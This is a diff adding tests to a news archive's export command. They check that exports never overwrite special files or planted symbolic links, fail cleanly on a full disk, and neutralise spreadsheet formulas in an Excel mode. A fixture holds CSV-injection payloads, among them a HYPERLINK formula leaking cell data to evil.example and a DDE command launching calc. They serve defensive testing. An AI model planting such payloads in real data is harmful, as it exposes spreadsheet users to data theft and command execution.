@@ -7,6 +7,11 @@ import csv
 import io
 import json
 import math
+import os
+import resource
+import socket
+import sqlite3
+import stat
 import subprocess
 import sys
 from pathlib import Path
@@ -39,8 +44,8 @@ def archived(db) -> dict[str, dict]:
         return {a["url"]: a for a in (archive.article(i) for i in ids)}
 
 
-def exported(db: Path, out: Path, *args: str) -> subprocess.CompletedProcess:
-    return run_cli("export", "--db", str(db), "-o", str(out), *args)
+def exported(db: Path, out: Path, *args: str, **run) -> subprocess.CompletedProcess:
+    return run_cli("export", "--db", str(db), "-o", str(out), *args, **run)
 
 
 def read_jsonl(path: Path) -> list[dict]:
@@ -293,3 +298,257 @@ def test_the_crawl_progress_extension_logs_lines_when_not_on_a_terminal(tmp_path
         f"{run['requests']} requests, {run['pages']} pages, {run['articles_new']} articles"
         in lines[-1]
     )
+
+
+# -- outputs export must never replace, and failures that leave nothing (issue 17) ---------------
+def _one_line_refusal(result: subprocess.CompletedProcess, *words: str) -> None:
+    assert result.returncode == 2, result.stdout + result.stderr
+    assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1
+    for word in words:
+        assert word in result.stderr, result.stderr
+
+
+def _private_device(path: Path) -> None:
+    """A character device of our own (/dev/null's numbers), never the machine's: replacing it
+    harms nothing. Making one takes root."""
+    try:
+        os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
+    except PermissionError:
+        pytest.skip("making a device node takes root")
+
+
+@pytest.mark.parametrize("kind", ["fifo", "socket", "device", "directory", "symlink"])
+def test_export_never_replaces_what_is_not_a_regular_file(db, tmp_path, kind):
+    target = tmp_path / "out"
+    victim = tmp_path / "victim.jsonl"
+    victim.write_text("someone else's\n", "utf-8")
+    held = None
+    if kind == "fifo":
+        os.mkfifo(target)
+    elif kind == "socket":
+        if len(str(target)) > 100:
+            pytest.skip("the path is too long for a Unix socket")
+        held = socket.socket(socket.AF_UNIX)
+        held.bind(str(target))
+    elif kind == "device":
+        _private_device(target)
+    elif kind == "directory":
+        target.mkdir()
+    else:
+        target.symlink_to(victim)
+    before = sorted(tmp_path.iterdir())
+    try:
+        result = exported(db, target, "--format", "jsonl", check=False)
+        is_kind = {
+            "fifo": stat.S_ISFIFO,
+            "socket": stat.S_ISSOCK,
+            "device": stat.S_ISCHR,
+            "directory": stat.S_ISDIR,
+            "symlink": stat.S_ISLNK,
+        }[kind]
+        assert is_kind(os.lstat(target).st_mode)  # still what it was
+    finally:
+        if held is not None:
+            held.close()
+    _one_line_refusal(result, str(target))
+    assert victim.read_text("utf-8") == "someone else's\n"
+    assert sorted(tmp_path.iterdir()) == before  # no card, no temporary file
+    if kind == "symlink":
+        assert os.readlink(target) == str(victim)
+
+
+def test_a_planted_partial_link_is_never_written_through(db, archived, tmp_path):
+    out = tmp_path / "out.jsonl"
+    victim = tmp_path / "victim"
+    victim.write_text("keep me\n", "utf-8")
+    (tmp_path / "out.jsonl.partial").symlink_to(victim)  # the name earlier versions used
+    exported(db, out)
+    assert victim.read_text("utf-8") == "keep me\n"
+    assert stat.S_ISREG(os.lstat(out).st_mode) and len(read_jsonl(out)) == len(archived)
+    assert sorted(p.name for p in tmp_path.iterdir()) == [
+        "README.md",
+        "out.jsonl",
+        "out.jsonl.partial",  # the planted link, left alone
+        "victim",
+    ]
+
+
+def test_a_card_place_that_is_a_link_refuses_the_export(db, tmp_path):
+    (tmp_path / "README.md").write_text("# My project\n", "utf-8")  # the card goes beside it
+    victim = tmp_path / "victim"
+    victim.write_text("keep me\n", "utf-8")
+    (tmp_path / "out.jsonl.README.md").symlink_to(victim)
+    before = sorted(tmp_path.iterdir())
+    result = exported(db, tmp_path / "out.jsonl", check=False)
+    _one_line_refusal(result, "out.jsonl.README.md", "symbolic link")
+    assert victim.read_text("utf-8") == "keep me\n"
+    assert sorted(tmp_path.iterdir()) == before
+
+
+def test_a_readme_that_is_a_fifo_is_never_opened(db, tmp_path):
+    os.mkfifo(tmp_path / "README.md")  # reading it would wait for a writer forever
+    result = exported(db, tmp_path / "out.jsonl", timeout=60)
+    card = tmp_path / "out.jsonl.README.md"
+    assert f"dataset card  {card}" in result.stdout and read_card(card)[0]["configs"]
+    assert stat.S_ISFIFO(os.lstat(tmp_path / "README.md").st_mode)
+
+
+def test_two_exports_to_one_path_each_write_their_own_file(db, archived, tmp_path):
+    """Export B runs whole while export A is halfway: each writes a file of its own, A's
+    replaces B's when it is done, and no temporary file is left."""
+    out = tmp_path / "out.jsonl"
+    with Archive.open_read_only(db) as first, Archive.open_read_only(db) as second:
+
+        class Meddling(Progress):
+            def update(self, n: int = 1) -> None:
+                super().update(n)
+                if self.done == 5:
+                    export_module.export(
+                        second, "jsonl", out, export_module.Filters(sites=["civil_ge"]),
+                        progress=_quiet,
+                    )  # fmt: skip
+                    assert {r["site"] for r in read_jsonl(out)} == {"civil_ge"}
+
+        result = export_module.export(
+            first, "jsonl", out, progress=lambda *a, **k: Meddling(*a, stream=io.StringIO(), **k)
+        )
+    records = read_jsonl(out)  # every line whole: A's file, never a mixture
+    assert result.records == len(records) == len(archived)
+    assert {r["url"] for r in records} == set(archived)
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["README.md", "out.jsonl"]
+
+
+@pytest.fixture(scope="module")
+def rollback_db(db, tmp_path_factory) -> Path:
+    """The archive in rollback-journal mode: read, it writes no file (WAL mode maps a 32 kB
+    `-shm` file), so that a limit on file size falls on the export's files alone."""
+    path = tmp_path_factory.mktemp("rollback") / "archive.db"
+    with sqlite3.connect(db) as source, sqlite3.connect(path) as copy:
+        source.backup(copy)
+        copy.execute("PRAGMA journal_mode=DELETE")
+    return path
+
+
+def exported_on_a_full_disk(db: Path, out: Path, limit: int, *args: str):
+    """`export` in a process whose files cannot grow past `limit` bytes (RLIMIT_FSIZE): a write
+    past it fails with EFBIG, as one past the end of a full disk fails with ENOSPC. Python
+    ignores SIGXFSZ, so the write fails instead of the process being killed."""
+
+    def limit_file_size() -> None:
+        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
+
+    return subprocess.run(
+        [sys.executable, "-m", "caucasus_crawler.cli", "export", "--db", str(db)]
+        + ["-o", str(out), *args],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        cwd=REPO,
+        preexec_fn=limit_file_size,
+    )
+
+
+def _snapshot(directory: Path) -> dict[str, bytes]:
+    return {p.name: p.read_bytes() for p in sorted(directory.iterdir())}
+
+
+@pytest.mark.parametrize("name", ["out.jsonl", "out.csv", "out.parquet", "out.warc.gz"])
+def test_an_export_that_fails_midway_leaves_what_was_there(rollback_db, tmp_path, name):
+    out = tmp_path / name
+    run_cli("export", "--db", str(rollback_db), "-o", str(out))  # an earlier export, whole
+    before = _snapshot(tmp_path)
+    assert out.stat().st_size > 40_000
+    result = exported_on_a_full_disk(rollback_db, out, 32_768)
+    _one_line_refusal(result, str(out), "File too large")
+    assert _snapshot(tmp_path) == before  # no partial file, no card, the earlier ones intact
+
+
+@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
+def test_a_card_that_cannot_be_written_takes_its_export_with_it(rollback_db, tmp_path, fmt):
+    """The data file is written whole, then the disk is full for the card: neither stays
+    (earlier, the data stayed, the failure was reported, and README.md was left cut)."""
+    one = ["--site", "civil_ge", "--since", "2024-09-04", "--until", "2024-09-04"]
+    sizes = tmp_path / "sizes"
+    run_cli("export", "--db", str(rollback_db), "-o", str(sizes / f"one.{fmt}"), *one)
+    data, card = (sizes / f"one.{fmt}").stat().st_size, (sizes / "README.md").stat().st_size
+    assert data < card, "the card must be the larger file for this test"
+    full = tmp_path / "full"
+    full.mkdir()
+    result = exported_on_a_full_disk(rollback_db, full / f"one.{fmt}", (data + card) // 2, *one)
+    _one_line_refusal(result, str(full / "README.md"), "File too large")
+    assert list(full.iterdir()) == []
+
+
+def test_until_the_last_day_there_is_exports_every_dated_article(db, archived, tmp_path):
+    out = tmp_path / "all.jsonl"
+    exported(db, out, "--until", "9999-12-31", "--since", "0001-01-01")
+    assert {r["url"] for r in read_jsonl(out)} == set(archived)
+    assert "published until 9999-12-31" in read_card(tmp_path / "README.md")[1]
+
+
+@pytest.mark.parametrize(
+    "args, words",
+    [
+        (["-o", "\udcff.jsonl"], ["\\xff.jsonl", "not UTF-8"]),
+        (["-o", "x.jsonl", "--category", "Politik\udcff"], ["--category", "not UTF-8"]),
+        (["-o", "x.jsonl", "--site", "\udcff"], ["--site", "not UTF-8"]),
+    ],
+)
+def test_arguments_that_are_not_utf8_are_one_line(db, tmp_path, args, words):
+    """A byte that is not UTF-8 on a Linux command line reaches Python as a lone surrogate."""
+    args = [str(tmp_path / a) if ".jsonl" in a else a for a in args]
+    result = run_cli("export", "--db", str(db), *args, check=False)
+    _one_line_refusal(result, *words)
+    assert not list(tmp_path.iterdir())
+
+
+# -- CSV for spreadsheets ------------------------------------------------------------------------
+FORMULAS = {
+    "title": '=HYPERLINK("https://evil.example/?leak="&A2,"Read more")',
+    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "body": "+1+2\n\n-3 is a number; so is this paragraph's start",
+}
+
+
+@pytest.fixture(scope="module")
+def formula_db(db, tmp_path_factory) -> Path:
+    """The archive with the reference article's title, summary and body beginning as
+    spreadsheet formulas do (as an outlet's page may)."""
+    path = tmp_path_factory.mktemp("formulas") / "archive.db"
+    with sqlite3.connect(db) as source, sqlite3.connect(path) as copy:
+        source.backup(copy)
+        copy.execute(
+            "UPDATE articles SET title = :title, description = :description, body = :body"
+            " WHERE url = :url",
+            {**FORMULAS, "url": REFERENCE_URL},
+        )
+    return path
+
+
+def test_csv_keeps_the_data_as_it_is_and_excel_csv_defuses_formulas(formula_db, tmp_path):
+    plain, excel = tmp_path / "plain" / "a.csv", tmp_path / "excel" / "a.csv"
+    exported(formula_db, plain)
+    result = exported(formula_db, excel, "--excel")
+    assert "(csv for spreadsheets," in result.stdout
+    with plain.open(encoding="utf-8", newline="") as f:
+        rows = {row["url"]: row for row in csv.DictReader(f)}
+    assert rows[REFERENCE_URL]["title"] == FORMULAS["title"]  # programs get the data
+    assert rows[REFERENCE_URL]["text"] == FORMULAS["body"]
+    raw = excel.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbfid,url,")  # a BOM: spreadsheets then read UTF-8
+    with excel.open(encoding="utf-8-sig", newline="") as f:
+        defused = {row["url"]: row for row in csv.DictReader(f)}
+    assert defused[REFERENCE_URL]["title"] == "'" + FORMULAS["title"]
+    assert defused[REFERENCE_URL]["description"] == "'" + FORMULAS["description"]
+    assert defused[REFERENCE_URL]["text"] == "'" + FORMULAS["body"]
+    for url, row in rows.items():  # nothing else changes
+        if url != REFERENCE_URL:
+            assert defused[url] == row
+    _, body = read_card(tmp_path / "excel" / "README.md")
+    assert "--excel" in body and "'" in body
+
+
+def test_excel_is_a_flavour_of_csv_only(db, tmp_path):
+    result = exported(db, tmp_path / "x.jsonl", "--excel", check=False)
+    _one_line_refusal(result, "--excel")
+    assert not list(tmp_path.iterdir())
